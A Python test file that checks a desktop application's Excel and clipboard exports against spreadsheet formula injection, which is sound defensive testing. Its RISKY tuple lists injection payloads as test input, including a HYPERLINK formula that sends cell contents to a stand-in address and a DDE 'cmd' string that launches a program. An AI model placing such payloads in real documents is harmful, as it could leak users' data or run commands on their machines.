"""Text that looks like a formula leaves as text, in every file and on the clipboard."""

import re
import zipfile
from dataclasses import replace
from io import BytesIO

import pytest
from openpyxl import load_workbook

from tests.unit_sheets import DONE, DUE, sent, share, work
from tthc_desktop.documents.writing.clipboard.markup import to_html
from tthc_desktop.documents.writing.clipboard_table import to_html as cells_to_html
from tthc_desktop.documents.writing.unit_sheets import unit_sheet
from tthc_desktop.documents.writing.workbook import workbook
from tthc_desktop.documents.writing.workbook.whole_book import whole_workbook
from tthc_desktop.models.holdings import Holdings, changed
from tthc_desktop.models.outline import tables
from tthc_desktop.models.plan import Plan
from tthc_desktop.models.progress.values import Field
from tthc_desktop.models.table_block import Piece
from tthc_desktop.models.text import plain
from tthc_desktop.models.unit import Unit

RISKY = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Xem")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
)


@pytest.fixture
def plan() -> Plan:
    """Return a plan that says such things wherever a clerk, or a paper from outside, can say something."""
    from tests.ui.papers import little_plan  # noqa: PLC0415 - beside its window's tests

    made = little_plan(len(RISKY))
    tasks = {
        key: replace(task, content=plain(said), lead=plain(said), coordinate=plain(said), deadline=plain(said))
        for (key, task), said in zip(made.tasks.items(), (*RISKY, RISKY[0]), strict=True)
    }
    return replace(made, title=plain(RISKY[0]), tasks=tasks)


def files(plan: Plan) -> dict[str, bytes]:
    of = share(*(work(str(number), said, lead=said, result=said) for number, said in enumerate(RISKY)))
    typed = {Field.RESULT: RISKY[0], Field.TROUBLE: RISKY[2], Field.PROPOSAL: RISKY[4]}
    said = {row.work_id: {**DONE, **typed} for row in of.rows}
    holdings = changed(Holdings(), ((None, plan), (None, Unit("u1", RISKY[0], RISKY[2]))))
    return {
        "plan": workbook(plan),
        "unit sheet": unit_sheet(of, sent(of, said), DUE),
        "whole office": whole_workbook(holdings),
    }


def test_no_cell_of_a_workbook_is_a_formula(plan: Plan) -> None:
    for name, data in files(plan).items():
        with zipfile.ZipFile(BytesIO(data)) as archive:
            sheets = [archive.read(part) for part in archive.namelist() if part.startswith("xl/worksheets/sheet")]
            assert not any("externalLink" in part or "vba" in part.lower() for part in archive.namelist()), name
        assert sheets, name
        assert not any(re.search(rb"<f[ >/]", sheet) for sheet in sheets), name


def test_what_is_edited_later_stays_text_too(plan: Plan) -> None:
    """Excel takes a cell for a formula as soon as somebody presses F2 and Enter in it, but for the quotation mark."""
    for name, data in files(plan).items():
        found = 0
        for sheet in load_workbook(BytesIO(data)).worksheets:
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                assert cell.data_type != "f", (name, cell.coordinate)
                if str(cell.value).startswith(("=", "+", "-", "@")) and sheet.sheet_state == "visible":
                    found += 1
                    assert cell.quotePrefix, (name, cell.coordinate, cell.value)
        assert found, name


def test_copied_cells_are_told_to_be_text(plan: Plan) -> None:
    table = next(table for table, _ in tables(plan))
    for page in (to_html(plan, [table]), cells_to_html([[Piece(plain(said)) for said in RISKY]])):
        cells = re.findall(r"<t[dh]\b[^>]*>", page)
        assert len(cells) >= len(RISKY)
        assert all(r"mso-number-format:'\@'" in cell for cell in cells)
